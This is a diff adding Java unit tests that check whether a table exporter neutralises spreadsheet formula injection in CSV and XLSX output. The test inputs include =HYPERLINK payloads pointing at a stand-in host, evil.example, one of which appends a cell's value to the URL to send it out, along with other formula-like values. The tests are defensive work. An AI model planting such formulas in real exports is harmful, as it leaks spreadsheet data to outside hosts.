@@ -53,6 +53,39 @@ class TableExportTests {
     }
 
     @Test
+    void csvNeutralisesTextThatASpreadsheetWouldRunButKeepsNumbersAsNumbers() throws IOException {
+        ByteArrayOutputStream out = new ByteArrayOutputStream();
+        TableExport.write(TableExport.Format.CSV, out, "x", List.of("名称", "金额"), sink -> {
+            sink.row(List.of("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", new BigDecimal("-1200.50")));
+            sink.row(List.of("+86 138 0013 8000", -3));
+            sink.row(List.of("-2+3", "-12.5"));
+            sink.row(List.of("@SUM(A1:A2)", "\t=1+1"));
+            sink.row(List.of("\r=1+1", "普通 = 文字"));
+        });
+        String text = new String(out.toByteArray(), 3, out.size() - 3, StandardCharsets.UTF_8);
+
+        assertThat(text.split("\r\n")).containsExactly("名称,金额",
+                "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\",-1200.50",
+                "'+86 138 0013 8000,-3",
+                "'-2+3,-12.5",
+                "'@SUM(A1:A2),'\t=1+1",
+                "\"'\r=1+1\",普通 = 文字");
+    }
+
+    @Test
+    void excelWritesFormulaLikeTextAsTextCells() throws IOException {
+        ByteArrayOutputStream out = new ByteArrayOutputStream();
+        TableExport.write(TableExport.Format.XLSX, out, "x", List.of("名称"),
+                sink -> sink.row(List.of("=HYPERLINK(\"http://evil.example/\",\"click\")")));
+
+        try (ReadableWorkbook wb = new ReadableWorkbook(new ByteArrayInputStream(out.toByteArray()))) {
+            Row row = wb.getFirstSheet().read().get(1);
+            assertThat(row.getCell(0).getType()).isEqualTo(org.dhatim.fastexcel.reader.CellType.STRING);
+            assertThat(row.getCellText(0)).isEqualTo("=HYPERLINK(\"http://evil.example/\",\"click\")");
+        }
+    }
+
+    @Test
     void contentTypesAndExtensionsAreThoseBrowsersAndExcelExpect() {
         assertThat(TableExport.Format.CSV.contentType()).isEqualTo("text/csv;charset=UTF-8");
         assertThat(TableExport.Format.CSV.extension()).isEqualTo("csv");
